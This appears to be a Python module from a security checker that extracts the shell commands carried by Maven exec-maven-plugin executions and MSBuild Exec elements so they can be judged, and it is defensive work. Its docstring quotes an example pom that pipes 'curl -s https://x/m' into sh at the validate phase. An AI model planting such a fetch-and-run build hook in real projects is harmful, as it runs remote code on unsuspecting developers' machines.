"""Round 41 (lead, fc): the command a Maven ``exec-maven-plugin`` execution or an MSBuild ``<Exec Command=…/>``
carries, read as a command (``build_tools``).

Round 10 read a ``pom.xml`` declaring a plugin that runs programs as opaque: its write added nothing (the run is judged
when it comes), so ``<executable>sh</executable><arguments><argument>-c</argument><argument>curl -s https://x/m |
sh</argument></arguments>`` bound to ``validate`` — run by the next ``mvn`` of any goal — was written unjudged. Each
``exec`` goal's configuration (the plugin's, then the execution's: an execution's ``executable``/``arguments`` win) is
now spelled as the shell line it runs (``executable`` then each ``argument`` quoted as one word) and judged like a
recipe. Ordinary plugins add nothing.

Still opaque (``None``: the run is judged when it comes): any other runner plugin (antrun, groovy, frontend …), an
``exec:java`` goal (Java code), an executable or argument with a Maven property (``${…}``), ``commandlineArgs``, an
exec-maven-plugin declared with neither executions nor configuration (round 10's opaque reading: it is configured
elsewhere, by a parent pom or ``-Dexec.executable=``).
"""
from __future__ import annotations

import re
import shlex
from typing import Any
from xml.etree import ElementTree

_EXEC_PLUGIN = "exec-maven-plugin"


def _local(tag: object) -> str:
    return str(tag).rsplit("}", 1)[-1]


def _child(element: Any, name: str) -> Any:
    return next((c for c in element if _local(c.tag) == name), None)


def _text(element: Any) -> str:
    return (element.text or "").strip() if element is not None else ""


def _line(*configurations: Any) -> str | None:
    """The shell line of the last configuration that names an executable (None: one Tier 1 cannot spell)."""
    executable, arguments = "", None
    for config in configurations:
        if config is None:
            continue
        if _child(config, "commandlineArgs") is not None:
            return None
        executable = _text(_child(config, "executable")) or executable
        given = _child(config, "arguments")
        arguments = [_text(a) for a in given if _local(a.tag) == "argument"] if given is not None else arguments
    words = [executable, *(arguments or [])]
    if not executable or any("${" in w for w in words):
        return None
    return " ".join(shlex.quote(w) for w in words)


def exec_plugin_lines(root: Any) -> list[str] | None:
    """Each ``exec`` execution of every exec-maven-plugin in the parsed pom as a shell line; None when one cannot be
    spelled (see the module)."""
    lines: list[str] = []
    for plugin in root.iter():
        if _local(plugin.tag) != "plugin" or _text(_child(plugin, "artifactId")) != _EXEC_PLUGIN:
            continue
        config = _child(plugin, "configuration")
        executions = _child(plugin, "executions")
        if executions is None and config is None:
            return None  # configured elsewhere (a parent pom, pluginManagement, `-Dexec.executable=`): opaque
        for execution in (list(executions) if executions is not None else []):
            goals = [_text(g) for g in (_child(execution, "goals") or [])]
            if any(g != "exec" for g in goals):
                return None  # `exec:java`: Java code Tier 1 does not read
            line = _line(config, _child(execution, "configuration"))
            if line is None:
                return None
            lines.append(line)
        if executions is None and config is not None:  # run from the command line only (`mvn exec:exec`)
            line = _line(config)
            if line is None:
                return None
            lines.append(line)
    return lines


def pom_commands(content: str, root: ElementTree.Element) -> str | None:
    """The exec-maven-plugin lines of a pom whose only runner plugin is exec-maven-plugin, else None."""
    lines = exec_plugin_lines(root)
    return None if lines is None else "\n".join(lines)


_MSBUILD_EXEC = re.compile(r"<\s*Exec\b[^<>]{0,4000}?/?>", re.IGNORECASE)


def msbuild_commands(content: str, runs: Any) -> str | None:
    """An MSBuild project's ``<Exec Command="…"/>`` commands as shell lines (a ``.csproj``/``.proj``/
    ``Directory.Build.targets`` target runs them at the next ``dotnet build``), when nothing else in it runs code
    (``runs``: the caller's pattern, tried on the content with the Exec elements left out) and no command holds an
    MSBuild property (``$(…)``, ``@(…)``, ``%(…)``); else None (opaque, as before)."""
    if "<Exec" not in content and "<exec" not in content.lower() or "<!DOCTYPE" in content or "<!ENTITY" in content:
        return None
    try:
        root = ElementTree.fromstring(content)
    except (ElementTree.ParseError, ValueError, RecursionError):
        return None
    if _local(root.tag) != "Project" or runs.search(_MSBUILD_EXEC.sub("", content)):
        return None
    lines = [e.get("Command") or "" for e in root.iter() if _local(e.tag) == "Exec"]
    if not lines or any(not line or re.search(r"[$@%]\(", line) for line in lines):
        return None
    return "\n".join(lines)
